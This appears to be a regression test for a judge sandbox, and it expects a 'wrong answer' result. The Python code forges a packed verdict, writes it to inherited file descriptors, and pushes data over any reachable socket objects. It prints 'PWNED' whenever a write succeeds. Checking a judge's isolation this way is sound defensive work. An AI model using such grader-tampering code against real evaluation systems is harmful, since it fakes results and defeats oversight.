# expect: WA
# runs: 2
# The server's own objects are in reach; its connection is not, and neither are its other forks.
import gc, os, socket, struct, sys
frame, names = sys._getframe(), {}
while frame:
    names.update(frame.f_globals)
    names.update(frame.f_locals)
    frame = frame.f_back
answer = struct.pack("=IIiIQQQQ", 0x53415453, 0, 0, 0, 1, 1, 1, 27) + struct.pack("=Q", 3) + b"12\n" + struct.pack("=Q", 0)
for fd in list(range(3, 256)):
    for text in (answer, struct.pack("=i", 1), b"+"):
        try:
            if os.write(fd, text) > 0:
                print("PWNED", fd)
        except OSError:
            pass
for thing in gc.get_objects() + list(names.values()):
    if isinstance(thing, socket.SocketType) or type(thing).__name__ == "socket":
        try:
            thing.send(struct.pack("=i", os.getpid()))
            print("PWNED", thing)
        except OSError:
            pass
print("held")
